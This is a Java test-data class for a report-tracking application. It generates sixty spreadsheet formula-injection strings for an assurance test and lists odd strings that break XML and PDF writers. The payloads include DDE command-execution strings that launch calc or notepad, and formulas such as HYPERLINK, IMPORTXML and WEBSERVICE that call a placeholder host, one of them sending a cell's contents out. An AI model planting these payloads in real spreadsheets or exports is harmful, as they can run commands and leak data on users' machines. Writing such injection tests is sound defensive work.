package org.poamtracker.reports;

import java.util.List;
import java.util.stream.Stream;

/** Texts that a spreadsheet would take for a formula: sixty, as assurance test S4 asks. */
public final class Payloads {

    private static final List<String> STARTS = List.of("=", "+", "-", "@", "\t=", "\r=");
    private static final List<String> BODIES = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")",
            "SUM(1,2)*cmd|' /C calc'!A0",
            "IMPORTXML(\"http://example.invalid\",\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "WEBSERVICE(\"http://example.invalid\")",
            "A1:A9",
            "\"x\"&\"y\"",
            "2+5+cmd|' /C notepad'!A0");

    private Payloads() {}

    public static List<String> formulas() {
        return STARTS.stream()
                .flatMap(start -> BODIES.stream().map(body -> start + body))
                .toList();
    }

    /** Other texts that have broken writers of XML and PDF. */
    public static Stream<String> oddities() {
        return Stream.of(
                "<b>bold</b> & \"quoted\" ]]>",
                "bell\u0007 null\u0000 lone \uD800 surrogate",
                "中文 العربية 😀 → ≥ ✓ é Ω Я",
                "x".repeat(400),
                "line one\r\nline two\rline three",
                "<style isBold='true'>styled</style>",
                "$P{REPORT_CONNECTION} $F{x} $R{y}",
                "");
    }
}
